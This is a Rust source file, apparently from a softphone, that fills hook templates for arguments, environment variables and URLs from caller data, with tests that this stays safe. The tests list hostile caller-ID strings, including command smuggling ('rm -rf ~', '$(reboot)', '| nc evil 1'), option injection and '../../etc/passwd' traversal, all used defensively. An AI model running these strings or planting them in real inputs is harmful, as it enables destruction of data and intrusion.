//! Templates filled: arguments, environment, addresses. What a stranger wrote stays one value in each.

use carillon_schemas::hook_template::{Part, Token, parts};

use super::facts::Facts;

/// The longest address that is opened, in bytes.
pub(super) const MAX_URL: usize = 4_096;

/// One argument. Where a value begins it, the value cannot be an option, a path or a response file.
pub(super) fn argument(template: &str, facts: &Facts) -> String {
    let mut argument = String::new();
    for part in read(template) {
        match part {
            Part::Text(text) => argument.push_str(text),
            Part::Token(token) if argument.is_empty() => {
                let value = facts.value(token);
                let leads = |c: char| matches!(c, '-' | '/' | '@') || c.is_whitespace();
                argument.push_str(value.trim_start_matches(leads));
            }
            Part::Token(token) => argument.push_str(&facts.value(token)),
        }
    }
    argument
}

/// Every fact as a variable: `CARILLON_NUMBER` and the like.
pub(super) fn environment(facts: &Facts) -> Vec<(String, String)> {
    let variable = |name: &str| format!("CARILLON_{}", name.to_ascii_uppercase());
    let values = Token::ALL.map(|(name, token)| (variable(name), facts.value(token)));
    let text = facts.message().map(|text| (variable("text"), text));
    values.into_iter().chain(text).collect()
}

/// An address, with every value percent-encoded: all but the unreserved characters of RFC 3986 §2.3, so that no value
/// ends its place. In a path slashes and dots that would climb become dashes, since some servers decode before they
/// climb. `None` above [`MAX_URL`].
pub(super) fn url(template: &str, facts: &Facts) -> Option<String> {
    let mut url = String::new();
    for part in read(template) {
        match part {
            Part::Text(text) => url.push_str(text),
            Part::Token(token) => {
                let mut value = facts.value(token);
                if !url.contains(['?', '#']) {
                    value = value.replace(['/', '\\'], "-");
                    if value.bytes().all(|b| b == b'.') {
                        value = "-".repeat(value.len());
                    }
                }
                encode(&value, &mut url);
            }
        }
    }
    (url.len() <= MAX_URL).then_some(url)
}

/// A template was checked when the configuration was read; one that is broken all the same stands for nothing.
fn read(template: &str) -> Vec<Part<'_>> {
    parts(template).unwrap_or_default()
}

fn encode(value: &str, into: &mut String) {
    const HEX: &[u8; 16] = b"0123456789ABCDEF";
    for byte in value.bytes() {
        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
            into.push(char::from(byte));
        } else {
            into.push('%');
            into.push(char::from(HEX[usize::from(byte >> 4)]));
            into.push(char::from(HEX[usize::from(byte & 15)]));
        }
    }
}

#[cfg(test)]
mod tests {
    use carillon_schemas::Timestamp;
    use carillon_schemas::hook::HookEvent;

    use super::*;
    use crate::desktop::hooks::{FarSide, OwnSide};

    fn facts(address: &str, name: &str) -> Facts {
        Facts {
            event: HookEvent::Incoming,
            at: Timestamp(1_795_426_860),
            account: "main".parse().unwrap(),
            own: OwnSide {
                server: "pbx.example".into(),
                extension: "1002".into(),
                session_user: None,
            },
            far: FarSide::read(address, Some(name)),
            direction: None,
            call: Some(7),
            duration: None,
            cause: None,
            new: None,
            text: Some("secret\0 text\n".into()),
        }
    }

    /// What strangers have tried on softphones and on us.
    const HOSTILE: [&str; 14] = [
        "\"; calc.exe",
        "'; rm -rf ~; '",
        "&calc",
        "$(reboot)",
        "`reboot`",
        "| nc evil 1",
        "%COMSPEC%",
        "%00",
        "%{number}",
        "line\r\nline",
        "\u{202e}exe.cod",
        "-rf",
        "--load=/tmp/evil.so",
        "../../etc/passwd",
    ];

    #[test]
    fn attack_b_hostile_caller_ids_stay_one_argument_and_never_an_option() {
        for hostile in HOSTILE
            .into_iter()
            .chain(["@/etc/passwd", "/s", " -x", "- -x"])
        {
            let facts = facts("sip:1001@pbx", hostile);
            let alone = argument("{name}", &facts);
            assert!(
                !alone.starts_with(['-', '/', '@', ' ']),
                "{hostile:?} became {alone:?}"
            );
            assert!(!alone.chars().any(char::is_control), "{alone:?}");
            let kept = argument("--name={name}", &facts);
            let value = facts.value(Token::Name);
            assert_eq!(kept, format!("--name={value}"), "not filled twice");
            // An empty value before it does not make a value the first one's place.
            assert!(!argument("{duration}{name}", &facts).starts_with(['-', '/', '@']));
        }
    }

    #[test]
    fn attack_b_hostile_caller_ids_stay_one_value_of_the_environment() {
        for hostile in HOSTILE {
            for (name, value) in environment(&facts("sip:1001@pbx", hostile)) {
                let known = name.strip_prefix("CARILLON_").unwrap();
                assert!(known.bytes().all(|b| b.is_ascii_uppercase()), "{name}");
                assert!(
                    !value.contains(['\0', '\r', '\u{202e}']),
                    "{name}={value:?}"
                );
                assert!(known == "TEXT" || !value.contains('\n'), "{name}={value:?}");
            }
        }
    }

    #[test]
    fn attack_b_hostile_caller_ids_stay_one_value_of_an_address() {
        let template = "https://crm.example/of/{name}/x?n={name}&who={number}#{name}";
        for hostile in
            HOSTILE
                .into_iter()
                .chain(["..", ".", "a/../../b", "?a=b&c", "#f", "\\\\evil\\x"])
        {
            let filled = url(template, &facts("sip:1001@pbx", hostile)).unwrap();
            let parsed = reqwest::Url::parse(&filled).unwrap();
            assert_eq!(parsed.host_str(), Some("crm.example"), "{filled}");
            let steps: Vec<_> = parsed.path_segments().unwrap().collect();
            assert_eq!(steps.len(), 3, "{filled}");
            assert!(
                !steps[1].contains("%2F") && !steps[1].contains("%5C"),
                "{filled}"
            );
            let pairs: Vec<_> = parsed.query_pairs().into_owned().collect();
            assert_eq!(pairs.len(), 2, "{filled}");
            assert_eq!(pairs[0].1, facts("sip:1001@pbx", hostile).far.name);
            assert_eq!(pairs[1], ("who".to_owned(), "1001".to_owned()));
            assert!(filled.is_ascii() && !filled.contains([' ', '"', '\'', '`', '$', '|', ';']));
        }
    }

    #[test]
    fn attack_b_ten_kilobytes_of_caller_id_are_cut() {
        let long = "\u{1f4de}".repeat(10_240);
        let facts = facts(&format!("sip:{long}@pbx"), &long);
        assert!(argument("{callerid}", &facts).chars().count() <= 2 * 128 + 3);
        let filled = url("https://h/?a={name}&b={number}&c={callerid}", &facts);
        assert!(filled.is_none_or(|url| url.len() <= MAX_URL));
        let all: usize = environment(&facts)
            .iter()
            .map(|(_, value)| value.len())
            .sum();
        assert!(all < 8 << 10, "{all} bytes of environment");
    }

    #[test]
    fn a_messages_text_is_in_no_argument_and_no_address() {
        let facts = facts("sip:1@pbx", "Ann");
        for (name, _) in Token::ALL {
            assert!(!argument(&format!("{{{name}}}"), &facts).contains("secret"));
        }
        assert!(environment(&facts).contains(&("CARILLON_TEXT".into(), "secret text\n".into())));
    }
}
